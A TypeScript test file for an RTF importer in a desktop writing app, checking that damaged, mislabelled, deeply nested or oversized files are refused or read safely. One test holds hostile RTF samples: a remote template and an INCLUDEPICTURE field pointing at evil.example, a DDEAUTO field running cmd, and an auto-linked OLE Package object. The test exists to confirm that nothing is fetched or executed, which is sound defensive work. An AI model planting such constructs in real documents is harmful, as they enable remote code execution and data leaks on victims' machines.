/** RTF files that are damaged, of another kind, or made to do harm. */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readRtf } from '../../electron/exchange/formats/rtf/read.ts';
import { parseDocument } from '../../shared/document/schema.ts';
import { GalleyError } from '../../shared/domain/errors.ts';
import { line, mutatedRtf, richRtfFile, rtfFile, title } from '../support/rtf-file.ts';
import { finalOf, linesOf } from '../support/word-reading.ts';

const TITLE = title('The Keel Bridge');
const read = (bytes: Uint8Array) => readRtf({ name: 'a.rtf', bytes });

function refusal(bytes: Uint8Array): string {
  try {
    read(bytes);
  } catch (error) {
    expect(error).toBeInstanceOf(GalleyError);
    expect((error as GalleyError).code).toBe('import-refused');
    return (error as GalleyError).message;
  }
  return 'It was read.';
}

test('files of another kind are refused with what they are', () => {
  expect(refusal(Buffer.from('PK\u0003\u0004'))).toContain('zipped file under another name');
  expect(refusal(Buffer.from('d0cf11e0a1b11ae1', 'hex'))).toContain('old Word file (.doc)');
  expect(refusal(Buffer.from('<html>x'))).toContain('web page');
  expect(refusal(Buffer.from('High water at noon.'))).toContain('not an RTF file');
  expect(finalOf(read(Buffer.from('\ufeff\n{\\rtf1 High water at noon.\\par}')))).toEqual([
    'High water at noon.',
  ]);
});

test('a file that is cut off within a group is refused; one without its last brace is read and named', () => {
  const whole = Buffer.from(rtfFile(TITLE + line('The {\\b ferry} left.'))).toString('latin1');
  expect(refusal(Buffer.from(whole.slice(0, whole.indexOf('ferry'))))).toContain('cut off');
  const open = read(Buffer.from(whole.slice(0, -1)));
  expect(finalOf(open)).toEqual(['The Keel Bridge', 'The ferry left.']);
  expect(open.warnings.join()).toContain('does not say where it ends');
  expect(read(Buffer.from(`${whole}\0\n\0`)).warnings).toEqual([]);
  expect(read(Buffer.from(`${whole}{\\rtf1 more}`)).warnings.join()).toContain('behind the end');
});

test('groups, tables and boxes deeper than anybody writes', () => {
  const nested = (open: string, depth: number, close: string) =>
    rtfFile(`${TITLE}\\pard ${open.repeat(depth)}deep${close.repeat(depth)}\\par`);
  expect(linesOf(read(nested('{', 300, '}')).doc)[1]).toBe('deep');
  expect(refusal(nested('{', 500, '}'))).toContain('deeper than 400 levels');
  expect(refusal(nested('{', 1_000_000, '}'))).toContain('deeper than 400 levels');
  const box = '{\\shp{\\*\\shpinst{\\shptxt ';
  expect(refusal(nested(box, 60, '}}}'))).toContain('more than 40 deep');
  expect(refusal(nested('{\\footnote ', 60, '}'))).toContain('more than 40 deep');
  const table = rtfFile(`${TITLE}\\pard\\intbl\\itap2000000000 deep\\nestcell\\par`);
  expect(linesOf(read(table).doc)[1]).toBe('deep');
});

test('lengths and numbers that are not true', () => {
  expect(refusal(rtfFile('\\bin2147483647 x'))).toContain('damaged');
  expect(refusal(rtfFile('{\\pict\\pngblip\\bin99999999999999 x}'))).toContain('damaged');
  const lied = read(
    rtfFile(
      `${TITLE}${line('a\\bin-5 b\\u99999999999?c\\u-1?d\\fs999999999999999999999 e')}\\trowd\\cellx-99\\cellx2147483647\\pard\\intbl x\\cell y\\cell z\\cell\\row${line('{\\f77777\\cs9\\revised\\revauth999\\revdttm-1 f}\\ls999\\ilvl99')}`,
    ),
  );
  expect(finalOf(lied)).toEqual(['The Keel Bridge', 'abc\uffffde', 'x', 'y', 'z', 'f']);
});

test('pictures larger than any, and more digits than are even', () => {
  const large = rtfFile(
    `${TITLE}${line(`Seen {\\pict\\pngblip ${'00'.repeat(26 * 1024 * 1024)}}`)}`,
  );
  const { warnings } = read(large);
  expect(warnings.join()).toContain('larger than 25 MiB');
  const odd = read(rtfFile(`${TITLE}${line('Seen {\\pict\\pngblip 123}{\\pict\\bin0}{\\pict}')}`));
  expect(odd.pictures).toEqual([]);
  expect(odd.warnings.join()).toContain('is not a PNG');
}, 30_000);

test('nothing is fetched, and no path leads anywhere', () => {
  const reading = read(
    rtfFile(
      `{\\*\\template http://evil.example/a.dot}${TITLE}${line('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a.png"}{\\fldrslt shown}}{\\field{\\*\\fldinst DDEAUTO cmd "/c x"}{\\fldrslt done}}{\\object\\objautlink{\\*\\objclass Package}{\\*\\objdata 0105}{\\result it}}')}`,
    ),
  );
  expect(finalOf(reading)[1]).toBe('showndoneit');
  expect(reading.warnings.join()).toContain('names a template outside itself');
  expect(JSON.stringify(reading.doc)).not.toContain('evil');
});

test('mutated files are read or refused, never anything else, and what is read is valid', () => {
  fc.assert(
    fc.property(fc.integer(), (seed) => {
      try {
        const { doc, review } = read(mutatedRtf(richRtfFile, seed));
        parseDocument(doc);
        if (review?.suggestions) parseDocument(JSON.parse(review.suggestions.base));
      } catch (error) {
        if (!(error instanceof GalleyError)) throw error;
        expect(error.code).toBe('import-refused');
      }
    }),
    { numRuns: 300 },
  );
}, 60_000);
